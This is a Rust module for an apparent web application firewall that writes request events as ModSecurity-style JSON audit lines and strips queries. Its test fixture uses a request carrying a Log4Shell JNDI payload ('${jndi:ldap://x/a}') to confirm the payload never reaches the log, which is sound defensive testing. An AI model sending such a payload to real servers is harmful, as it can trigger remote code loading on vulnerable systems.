//! Events: one JSON line each, in the audit format of ModSecurity v3, which the ledger reads.
//!
//! There is no field for headers, bodies, cookies, queries and values: what a client sent leaves as a path and as the shape of
//! what matched.

use std::net::SocketAddr;

use bedrail_waf_protocol::{Match, Verdict};
use jiff::Timestamp;
use serde::Serialize;

use crate::config::Mode;
use crate::refusal::Reason;

/// Bytes kept of a path.
const PATH_LIMIT: usize = 300;

/// How a request ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// Forwarded, and no rule objected.
    Pass,
    /// Forwarded although rules objected.
    WouldBlock,
    /// Not forwarded.
    Blocked,
}

impl Outcome {
    /// As it is written.
    pub const fn as_str(self) -> &'static str {
        match self {
            Outcome::Pass => "pass",
            Outcome::WouldBlock => "would-block",
            Outcome::Blocked => "block",
        }
    }
}

/// What an event is made of.
#[derive(Debug)]
pub(crate) struct Event<'a> {
    pub(crate) at: Timestamp,
    pub(crate) id: &'a str,
    pub(crate) site: &'a str,
    pub(crate) mode: Mode,
    pub(crate) outcome: Outcome,
    pub(crate) client: SocketAddr,
    /// The device.
    pub(crate) device: Option<SocketAddr>,
    pub(crate) method: &'a [u8],
    pub(crate) target: &'a [u8],
    pub(crate) version: &'a str,
    pub(crate) status: u16,
    pub(crate) verdict: Option<&'a Verdict>,
    pub(crate) rule_set: &'a str,
    pub(crate) notes: &'a [Reason],
    pub(crate) probe: bool,
}

#[derive(Serialize)]
struct Line<'a> {
    transaction: Transaction<'a>,
}

#[derive(Serialize)]
struct Transaction<'a> {
    client_ip: String,
    time_stamp: String,
    unix_timestamp: i64,
    server_id: &'a str,
    client_port: u16,
    host_ip: String,
    host_port: u16,
    unique_id: &'a str,
    is_interrupted: bool,
    request: Request,
    response: Response,
    producer: Producer<'a>,
    bedrail: Own<'a>,
    messages: Vec<Message<'a>>,
}

#[derive(Serialize)]
struct Request {
    method: String,
    http_version: String,
    uri: String,
}

#[derive(Serialize)]
struct Response {
    http_code: u16,
}

#[derive(Serialize)]
struct Producer<'a> {
    connector: &'static str,
    secrules_engine: &'static str,
    components: [&'a str; 1],
}

/// What ModSecurity has no field for.
#[derive(Serialize)]
struct Own<'a> {
    mode: &'static str,
    outcome: &'static str,
    inbound_score: u32,
    outbound_score: u32,
    micros: u64,
    more_rules: u32,
    partly_judged: bool,
    /// A harmless request of our own that ended in a sink.
    probe: bool,
    rule_set: &'a str,
}

#[derive(Serialize)]
struct Message<'a> {
    message: &'a str,
    details: Details<'a>,
}

#[derive(Serialize)]
struct Details<'a> {
    /// The shape of what matched.
    r#match: &'a str,
    reference: &'a str,
    #[serde(rename = "ruleId")]
    rule_id: String,
    severity: String,
    tags: &'a [String],
}

impl Event<'_> {
    /// The line, with its end.
    pub(crate) fn line(&self) -> String {
        let verdict = self.verdict;
        let line = Line {
            transaction: Transaction {
                client_ip: self.client.ip().to_canonical().to_string(),
                time_stamp: self.at.strftime("%a %b %d %H:%M:%S %Y").to_string(),
                unix_timestamp: i64::try_from(self.at.as_nanosecond()).unwrap_or(0),
                server_id: self.site,
                client_port: self.client.port(),
                host_ip: self.device.map(|it| it.ip().to_string()).unwrap_or_default(),
                host_port: self.device.map_or(0, |it| it.port()),
                unique_id: self.id,
                is_interrupted: self.outcome == Outcome::Blocked,
                request: Request {
                    method: printable(self.method, 32),
                    http_version: self.version.to_owned(),
                    uri: path(self.target),
                },
                response: Response { http_code: self.status },
                producer: Producer {
                    connector: "bedrail waf",
                    secrules_engine: match self.mode {
                        Mode::Block => "Enabled",
                        Mode::Detect if self.outcome == Outcome::Blocked => "Enabled",
                        Mode::Detect => "DetectionOnly",
                        Mode::Off => "Disabled",
                    },
                    components: [self.rule_set],
                },
                bedrail: Own {
                    mode: self.mode.as_str(),
                    outcome: self.outcome.as_str(),
                    inbound_score: verdict.map_or(0, |it| it.inbound_score),
                    outbound_score: verdict.map_or(0, |it| it.outbound_score),
                    micros: verdict.map_or(0, |it| it.micros),
                    more_rules: verdict.map_or(0, |it| it.more_matches),
                    partly_judged: self.notes.contains(&Reason::PartlyJudged),
                    probe: self.probe,
                    rule_set: self.rule_set,
                },
                messages: self.messages(),
            },
        };
        let mut text = serde_json::to_string(&line).unwrap_or_default();
        text.push('\n');
        text
    }

    fn messages(&self) -> Vec<Message<'_>> {
        let notes = self.notes.iter().map(|it| it.row()).map(|row| Message {
            message: row.message,
            details: Details {
                r#match: "",
                reference: "",
                rule_id: row.rule.to_string(),
                severity: row.severity.to_string(),
                tags: &[],
            },
        });
        let fired = self.verdict.map_or(&[][..], |it| &it.matches).iter().map(|it: &Match| Message {
            message: &it.message,
            details: Details {
                r#match: &it.shape,
                reference: &it.variable,
                rule_id: it.id.to_string(),
                severity: it.severity.to_string(),
                tags: &it.tags,
            },
        });
        notes.chain(fired).collect()
    }
}

/// The path of a target, without query, without what is no text.
fn path(target: &[u8]) -> String {
    let end = target.iter().position(|byte| matches!(byte, b'?' | b'#')).unwrap_or(target.len());
    printable(&target[..end], PATH_LIMIT)
}

fn printable(bytes: &[u8], most: usize) -> String {
    bytes
        .iter()
        .take(most)
        .map(|byte| if byte.is_ascii_graphic() { char::from(*byte) } else { '?' })
        .collect()
}

#[cfg(test)]
mod tests {
    use bedrail_waf_protocol::{Interruption, Match, Verdict};

    use super::{Event, Outcome};
    use crate::config::Mode;
    use crate::refusal::Reason;

    fn fired(id: u32, severity: u8, message: &str) -> Match {
        Match {
            id,
            phase: 2,
            severity,
            disruptive: false,
            message: message.to_owned(),
            tags: vec!["attack-rce".to_owned()],
            variable: "ARGS:q".to_owned(),
            shape: "${a:a:/a/a}".to_owned(),
        }
    }

    /// The file that the tests of `formats` read: whatever is written here is what the ledger understands.
    #[test]
    fn events_are_written_as_the_ledger_reads_them() {
        let verdict = |matches: Vec<Match>| Verdict {
            interruption: Some(Interruption { status: 403, phase: 2 }),
            inbound_score: 15,
            matches,
            micros: 1_500,
            ..Verdict::default()
        };
        let attack = verdict(vec![
            fired(920_350, 4, "Host header is a numeric IP address"),
            fired(944_150, 2, "Potential Remote Command Execution: Log4j / Log4shell"),
            fired(949_110, 0, "Inbound Anomaly Score Exceeded (Total Score: 15)"),
        ]);
        let leak = verdict(vec![fired(951_110, 2, "Database error disclosure")]);
        let event = |mode, outcome, status, verdict, notes| Event {
            at: "2026-11-27T07:41:26Z".parse().unwrap(),
            id: "5f-1",
            site: "pump",
            mode,
            outcome,
            client: "198.51.100.4:43430".parse().unwrap(),
            device: Some("10.20.0.2:8080".parse().unwrap()),
            method: b"POST",
            target: b"/login?user=miller&q=${jndi:ldap://x/a}",
            version: "1.1",
            status,
            verdict,
            rule_set: "crs-4.28.0",
            notes,
            probe: false,
        };
        let lines: String = [
            event(Mode::Block, Outcome::Blocked, 403, Some(&attack), &[][..]),
            event(Mode::Detect, Outcome::WouldBlock, 200, Some(&attack), &[Reason::PartlyJudged]),
            event(Mode::Detect, Outcome::WouldBlock, 200, Some(&leak), &[]),
            event(Mode::Detect, Outcome::Blocked, 400, None, &[Reason::BothLengths]),
            event(Mode::Detect, Outcome::Pass, 200, None, &[Reason::NotJudged]),
        ]
        .iter()
        .map(Event::line)
        .collect();
        let fixture = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/events.jsonl");
        if std::env::var_os("BEDRAIL_WRITE_FIXTURES").is_some() {
            std::fs::write(fixture, &lines).unwrap();
        }
        assert_eq!(
            lines,
            std::fs::read_to_string(fixture).unwrap(),
            "hint: BEDRAIL_WRITE_FIXTURES=1 writes it anew"
        );
        assert!(!lines.contains("miller") && !lines.contains("ldap"), "no query");
    }
}
